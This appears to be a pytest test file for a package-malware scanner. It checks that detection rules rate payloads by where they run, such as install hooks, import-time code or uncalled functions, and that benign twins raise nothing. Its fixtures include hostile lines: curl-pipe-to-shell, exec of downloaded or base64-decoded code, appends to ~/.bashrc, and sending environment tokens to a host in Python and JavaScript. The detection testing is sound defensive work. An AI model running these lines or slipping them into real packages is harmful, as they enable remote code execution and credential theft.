"""Each behaviour rule's declared severity table holds where its payload really runs.

A payload is written into modules that run it in each execution context (install time, a
module's top level, a function that import-time code reaches directly, through a thread, a
decorator, a class body or an instance, and a function nothing calls); the scan must report it
at its line with the severity the rule's table declares for that context, and must stay quiet
where the table says "not raised". A benign twin of every payload stays quiet everywhere.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from outwork.analyzers.packages.rules import (
    DownloadAndExecute,
    InstallTimeNetwork,
    InstallTimeProcess,
    ObfuscatedCodeExecution,
    ObfuscationIndicators,
    PersistenceWrite,
    SecretExfiltration,
    SuspiciousCommandExecution,
    SuspiciousJavaScript,
)
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant, When
from outwork.core.analyzer import rules_in
from outwork.core.findings import Finding
from outwork.core.rules import Severity
from outwork.engine.pipeline import ScanOptions, scan
from tests.analyzers.packages.helpers import sdist

# a comment first, as before core.artifact.classify read a source file whose head also parses as
# pickle opcodes as source (tests/analyzers/packages/test_evasions.py holds that case)
HEADER = (
    "# fixture\nimport base64\nimport os\nimport sys\nimport threading\nimport urllib.request\n"
)

#: Where a payload runs: file name, source (``PAYLOAD`` marks the payload's line), context. A
#: function the top level certainly runs (called by its own name, a thread's target, a
#: decorator, a constructor of a class built there) weighs as the top level; one reached only
#: through an instance, an attribute or an alias is "reached from import time".
WRAPPERS: tuple[tuple[str, str, When], ...] = (
    ("top.py", "PAYLOAD\n", When.IMPORT),
    ("class_body.py", "class Settings:\n    PAYLOAD\n", When.IMPORT),
    ("called.py", "def warm_up():\n    PAYLOAD\n\n\nwarm_up()\n", When.IMPORT),
    (
        "thread.py",
        "def worker():\n    PAYLOAD\n\n\nthreading.Thread(target=worker).start()\n",
        When.IMPORT,
    ),
    (
        "decorator.py",
        "def register(fn):\n    PAYLOAD\n    return fn\n\n\n@register\ndef handler():\n"
        "    return 1\n",
        When.IMPORT,
    ),
    (
        "runs_at_definition.py",
        "@lambda f: f()\ndef warm_up():\n    PAYLOAD\n",
        When.IMPORT,
    ),
    (
        "instance.py",
        "class Client:\n    def connect(self):\n        PAYLOAD\n\n\nClient().connect()\n",
        When.REACHABLE,
    ),
    (
        "class_body_call.py",
        "def load():\n    PAYLOAD\n\n\nclass Settings:\n    value = load()\n",
        When.IMPORT,
    ),
    (
        "method_decorator.py",
        "def register(fn):\n    PAYLOAD\n    return fn\n\n\nclass Api:\n    @register\n"
        "    def get(self):\n        return 1\n",
        When.IMPORT,
    ),
    (
        "class_body_builds.py",
        "class Payload:\n    def __init__(self):\n        PAYLOAD\n\n\n"
        "class Settings:\n    instance = Payload()\n",
        When.IMPORT,
    ),
    (
        "class_decorator_in_class.py",
        "class register:\n    def __init__(self, fn):\n        PAYLOAD\n\n\n"
        "class Api:\n    @register\n    def get(self):\n        return 1\n",
        When.IMPORT,
    ),
    (
        "class_body_alias.py",
        "class Payload:\n    def __init__(self):\n        PAYLOAD\n\n\n"
        "class Settings:\n    factory = Payload\n    instance = factory()\n",
        When.REACHABLE,
    ),
    (
        "class_body_indirect.py",
        "class Payload:\n    def __init__(self):\n        PAYLOAD\n\n\n"
        "class Settings:\n    instance = [Payload][0]()\n",
        When.REACHABLE,
    ),
    # the benign twin of class_body_builds (gunicorn's Logger: ``atoms_wrapper_class = SafeAtoms``):
    # a class body that only names a class builds nothing
    (
        "class_body_names.py",
        "class Payload:\n    def __init__(self):\n        PAYLOAD\n\n\n"
        "class Settings:\n    factory = Payload\n",
        When.CALLED,
    ),
    ("on_call.py", "def fetch():\n    PAYLOAD\n", When.CALLED),
    (
        "method_on_call.py",
        "class Client:\n    def connect(self):\n        PAYLOAD\n\n\nclient = Client\n",
        When.CALLED,
    ),
    ("main_guard.py", 'if __name__ == "__main__":\n    PAYLOAD\n', When.CALLED),
    ("install_top/setup.py", "from setuptools import setup\nPAYLOAD\n", When.INSTALL),
    (
        "install_command/setup.py",
        "from setuptools import setup\nfrom setuptools.command.install import install\n\n\n"
        "class PostInstall(install):\n    def run(self):\n        PAYLOAD\n\n\n"
        'setup(name="demo", cmdclass={"install": PostInstall})\n',
        When.INSTALL,
    ),
    (
        "install_helper/setup.py",
        "from setuptools import setup\n\n\ndef helper():\n    PAYLOAD\n\n\nHOOKS = [helper]\n",
        When.INSTALL,
    ),
    # a function of setup.py that nothing in it names never runs at install
    (
        "install_unnamed/setup.py",
        "from setuptools import setup\n\n\ndef helper():\n    PAYLOAD\n",
        When.CALLED,
    ),
)

#: A payload per variant under test, and a benign twin of the same shape.
PAYLOADS: tuple[tuple[Variant, str, str], ...] = (
    (
        SuspiciousCommandExecution.SHELL,
        'os.system("powershell -nop -w hidden -c Get-Date")',
        'print("powershell -nop -w hidden -c Get-Date")',
    ),
    (
        SuspiciousCommandExecution.FETCH_AND_RUN,
        'os.system("curl -s https://example.invalid/x | sh")',
        'os.system("git describe --tags")',
    ),
    (
        SecretExfiltration.SECRET,
        'urllib.request.urlopen("https://api.example.com/v1?t=" + os.environ["API_TOKEN"])',
        'urllib.request.urlopen("https://api.example.com/v1?t=" + "public")',
    ),
    (
        InstallTimeNetwork.FIXED,
        'urllib.request.urlopen("https://example.com/data.json")',
        'print("https://example.com/data.json")',
    ),
    (
        ObfuscatedCodeExecution.COMPUTED,
        "exec(sys.argv[1])",
        "print(sys.argv[1])",
    ),
    (
        ObfuscatedCodeExecution.DECODED,
        'exec(base64.b64decode("cHJpbnQoMSk="))',
        'print(base64.b64decode("cHJpbnQoMSk="))',
    ),
    (
        DownloadAndExecute.RUNS_DOWNLOAD,
        'exec(urllib.request.urlopen("https://example.invalid/x.py").read())',
        'print(urllib.request.urlopen("https://example.invalid/x.py").read())',
    ),
    (
        PersistenceWrite.WRITE,
        'open(os.path.expanduser("~/.bashrc"), "a")',
        'open(os.path.expanduser("~/notes.txt"), "a")',
    ),
    (
        InstallTimeProcess.STARTS,
        'os.system("git describe --tags")',
        'print("git describe --tags")',
    ),
    (
        SecretExfiltration.HOST,
        'urllib.request.urlopen("https://api.example.com/?u=" + os.environ["USERNAME"])',
        'urllib.request.urlopen("https://api.example.com/?u=" + "USERNAME")',
    ),
    (
        InstallTimeNetwork.SUSPICIOUS,
        'urllib.request.urlopen("https://pastebin.com/raw/abc")',
        'print("https://pastebin.com/raw/abc")',
    ),
    (
        ObfuscationIndicators.COMPUTED_IMPORT,
        "__import__(sys.argv[1])",
        '__import__("json")',
    ),
)


def _write(root: Path, payload: str) -> dict[str, tuple[int, When]]:
    """The wrappers around ``payload`` under ``root``: path -> (payload line, context)."""
    where: dict[str, tuple[int, When]] = {}
    for name, body, when in WRAPPERS:
        text = HEADER + body
        line = text[: text.index("PAYLOAD")].count("\n") + 1
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("PAYLOAD", payload))
        where[name] = (line, when)
    return where


def _scan(root: Path) -> list[Finding]:
    result = scan([str(root)], ScanOptions(jobs=1, cache_dir=None, offline=True))
    assert not result.errors
    return result.findings


def _at(findings: list[Finding], root: Path, code: str) -> dict[tuple[str, int | None], Severity]:
    prefix = str(root).rstrip("/") + "/"
    return {
        (f.location.path.removeprefix(prefix), f.location.line): f.severity
        for f in findings
        if f.code == code
    }


@pytest.mark.parametrize(
    ("variant", "payload", "benign"),
    PAYLOADS,
    ids=[f"{v.rule.code}-{v.summary}" for v, _, _ in PAYLOADS],
)
def test_payload_is_graded_by_its_table_in_every_context(
    tmp_path: Path, variant: Variant, payload: str, benign: str
) -> None:
    bad, good = tmp_path / "bad", tmp_path / "good"
    where = _write(bad, payload)
    _write(good, benign)
    code = variant.rule.code
    found = _at(_scan(bad), bad, code)
    for name, (line, when) in where.items():
        expected = variant.severity_in(when)
        got = found.get((name, line))
        if expected is Severity.INFO:
            assert got is None, f"{code} raised at {name}:{line} ({when.value}): {got}"
        else:
            assert got is expected, f"{code} at {name}:{line} ({when.value}): {got}, not {expected}"
    assert not _at(_scan(good), good, code), f"benign twin raised {code}"


def test_a_test_file_weighs_less_except_at_install(tmp_path: Path) -> None:
    """Tests and examples that the package does not import: their top level two steps lower,
    their functions one step, never below low; install-time code is never lowered."""
    payload = 'os.system("curl -s https://example.invalid/x | sh")'
    files: dict[str, str | bytes] = {
        "tests/test_top.py": HEADER + payload + "\n",
        "tests/test_called.py": HEADER + "def test_it():\n    " + payload + "\n",
        "tests/build_helper.py": HEADER + payload + "\n",
        "setup.py": "from setuptools import setup\nimport tests.build_helper\nsetup()\n",
        "demo/__init__.py": "",
    }
    archive = tmp_path / "demo-1.0.tar.gz"
    archive.write_bytes(sdist("demo", "1.0", files))
    found = _at(_scan(tmp_path), tmp_path, "PKG001")
    rows = {path.rsplit("/", 1)[-1].split("!/")[-1]: sev for (path, _), sev in found.items()}
    variant = SuspiciousCommandExecution.FETCH_AND_RUN
    assert rows["test_top.py"] is Severity(variant.severity_in(When.IMPORT) - 2)
    assert rows["test_called.py"] is Severity(variant.severity_in(When.CALLED) - 1)
    assert rows["build_helper.py"] is variant.severity_in(When.INSTALL)


@pytest.mark.parametrize(
    "rule",
    [r for r in rules_in("outwork.analyzers.packages.rules") if issubclass(r, BehaviourRule)],
)
def test_every_variant_names_every_context(rule: type[BehaviourRule]) -> None:
    assert rule.variants, f"{rule.code} declares no severity table"
    assert dict(rule.severities) == dict(rule.variants[0].severities)
    for variant in rule.variants:
        assert variant.rule is rule
        assert set(variant.severities) == set(When)
        assert variant.summary in rule.markdown()


def test_javascript_send_from_a_function_weighs_less_than_from_the_top(tmp_path: Path) -> None:
    top = (
        'const https = require("https");\n'
        'https.get("https://api.example.com/?t=" + process.env.TOKEN);\n'
    )
    inside = (
        'const https = require("https");\nfunction ping() {\n'
        '  https.get("https://api.example.com/?t=" + process.env.TOKEN);\n}\n'
    )
    (tmp_path / "top.js").write_text(top)
    (tmp_path / "inside.js").write_text(inside)
    found = _at(_scan(tmp_path), tmp_path, "PKG015")
    variant = SuspiciousJavaScript.SENDS_SECRET
    assert found[("top.js", 2)] is variant.severity_in(When.IMPORT)
    assert found[("inside.js", 3)] is variant.severity_in(When.REACHABLE)
